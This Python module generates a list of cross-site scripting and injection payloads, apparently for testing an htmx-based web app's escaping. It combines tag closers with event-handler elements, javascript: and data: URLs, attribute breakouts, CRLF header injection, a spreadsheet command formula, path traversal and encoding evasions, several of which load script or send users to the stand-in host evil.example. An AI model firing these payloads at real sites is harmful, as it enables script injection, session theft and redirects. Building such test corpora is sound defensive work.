"""Texts that try to be more than text, made from rules: what to run, in which element, and out of which context."""

from collections.abc import Iterator
from itertools import islice, product

RUN = "window.pwned=1;document.title='pwned';alert(1)"
EVIL = "//evil.example"

CLOSERS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</template>",
    "</select>",
    "]]>",
    "</svg>",
    "</h1></main></body>",
    "*/",
    "\u2028",
    "</hx-partial>",
    "<!--><",
    "</math>",
    "`>",
    "</dialog>",
)
"""What may stand open where a text is put."""

ELEMENTS = (
    f'<img src=x data-pwned onerror="{RUN}">',
    f'<svg data-pwned onload="{RUN}"></svg>',
    f"<svg data-pwned><script>{RUN}</script></svg>",
    f'<svg data-pwned><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg data-pwned><use href="data:image/svg+xml,<svg id=x onload={RUN}/>#x"></svg>',
    f"<script data-pwned>{RUN}</script>",
    f'<script data-pwned src="{EVIL}/x.js"></script>',
    f'<iframe data-pwned srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe data-pwned src="javascript:{RUN}"></iframe>',
    f'<math data-pwned><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f'<details data-pwned open ontoggle="{RUN}">',
    f'<video data-pwned><source onerror="{RUN}"></video>',
    f'<input data-pwned autofocus onfocus="{RUN}">',
    f'<body data-pwned onload="{RUN}">',
    f"<template data-pwned><script>{RUN}</script></template>",
    f"<style data-pwned>@import '{EVIL}/x.css'; * {{ background: url({EVIL}/y) }}</style>",
    f'<link data-pwned rel=stylesheet href="{EVIL}/x.css">',
    f'<base data-pwned href="{EVIL}/">',
    f'<meta data-pwned http-equiv=refresh content="0;url={EVIL}">',
    f'<form data-pwned action="{EVIL}"><button>Sign in</button></form>',
    f'<object data-pwned data="javascript:{RUN}"></object>',
    f'<a data-pwned href="javascript:{RUN}">x</a>',
    f'<img data-pwned src="{EVIL}/x.png">',
    f'<hx-partial data-pwned hx-target="body"><img src=x onerror="{RUN}"></hx-partial>',
    f'<div data-pwned hx-get="{EVIL}/x" hx-trigger="load">x</div>',
    '<div data-pwned data-hx-get="/logout" data-hx-trigger="load">x</div>',
    '<div data-pwned hx-post="/logout" hx-trigger="load">x</div>',
    f'<div data-pwned hx-on:load="{RUN}" hx-on::init="{RUN}" hx-trigger="load">x</div>',
    '<div data-pwned hx-swap-oob="innerHTML:body" id="main">x</div>',
    f"<div data-pwned hx-vals='js:{{x: {RUN.split(';')[0]}}}' hx-get=/ hx-trigger=load>x</div>",
    "<a data-pwned id=htmx name=htmx>x</a><img data-pwned name=cookie>",
    "<form data-pwned id=list><input name=attributes></form>",
    f"<img/src/data-pwned/onerror={RUN.split(';')[2]}>",
)

ATTRIBUTES = tuple(
    f"{quote} {rest} x={quote}"
    for quote in ('"', "'", "`", "")
    for rest in (
        f"data-pwned onmouseover={RUN.split(';')[2]}",
        f"data-pwned autofocus onfocus={RUN.split(';')[2]} tabindex=0",
        f"hx-get={EVIL} hx-trigger=load data-pwned",
        f"data-hx-on:load={RUN.split(';')[2]} data-pwned",
        f"style=background:url({EVIL}) data-pwned",
        f"formaction={EVIL} data-pwned",
        "id=main data-pwned",
    )
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://x%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f'data:image/png;base64,AAAA" data-pwned onerror="{RUN}',
    f"vbscript:{RUN}",
    f"{EVIL}/x.png",
    f"https:{EVIL}/x.png",
    f"http:{EVIL}/x.png",
    f'https:{EVIL}/x.png" data-pwned onerror="{RUN}',
    f"https:{EVIL}/?q=<img data-pwned src=x>",
    f'a@example.com"><img data-pwned onerror={RUN}>',
    "mailto:a@example.com?subject=<b data-pwned>",
    '+41 79 "><b data-pwned>',
    '#fff" data-pwned x="',
    f"#fff;background:url({EVIL})",
    f"red;}} * {{ background: url({EVIL}) }}",
    f"\\{EVIL}\\x",
    '2026-01-02T03:04:05Z"><b data-pwned>',
    "../../../<b data-pwned>",
    f"blob:{EVIL}/x",
)
"""What a link, a picture, a mail, a colour or a date might be made of."""

SCRIPTS = (
    "{{ 7 * 7 }}<b data-pwned>{{ self }}",
    "{% raw %}<b data-pwned>",
    "${window.pwned=1}",
    f"'-{RUN}-'",
    f'";{RUN};//',
    f'\\";{RUN};//',
    f"</script><script data-pwned>{RUN}</script>",
    f"\u2028{RUN}\u2029",
    "__proto__",
    "constructor",
    '{"HX-Redirect": "//evil.example"}',
    "x\r\nHX-Redirect: //evil.example",
    "x\r\n\r\n<script data-pwned>1</script>",
    "x\r\nSet-Cookie: pwned=1",
    "event: end\ndata: <b data-pwned>\n\n",
    '"; filename="pwned.html',
    "a.html\x00.png",
    "../../pwned<b data-pwned>.html",
    "=cmd|' /C calc'!A0<b data-pwned>",
    "\ud800<b data-pwned>",
    "\u202e<b data-pwned>",
)

ENCODED = (
    "%3Cimg%20data-pwned%20src%3Dx%3E",
    "&lt;img data-pwned src=x&gt;",
    "&#60;img data-pwned src=x&#62;",
    "\\u003cimg data-pwned\\u003e",
    "\\x3cimg data-pwned\\x3e",
    "\uff1cimg data-pwned src=x\uff1e",
    "+ADw-img data-pwned+AD4-",
    "<\x00img data-pwned src=x>",
    "<img\x0cdata-pwned\x0csrc=x>",
    "<<img data-pwned src=x>>",
    "<img data-pwned src=x",
    "<%00img data-pwned>",
    "<\u017fcript data-pwned>",
    "\u2039img data-pwned\u203a",
    "\xc0\xbcimg data-pwned>",
    "<!--#exec cmd='x'--><b data-pwned>",
    "<?xml data-pwned?><b data-pwned>",
    "<![CDATA[<b data-pwned>]]>",
)


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from ADDRESSES
    yield from ATTRIBUTES
    yield from SCRIPTS
    yield from ENCODED
    for number, element in enumerate(ELEMENTS):
        chosen = product(CLOSERS[number % len(CLOSERS) :] + CLOSERS[: number % len(CLOSERS)], (element,))
        yield from ("".join(pair) for pair in islice(chosen, 5))
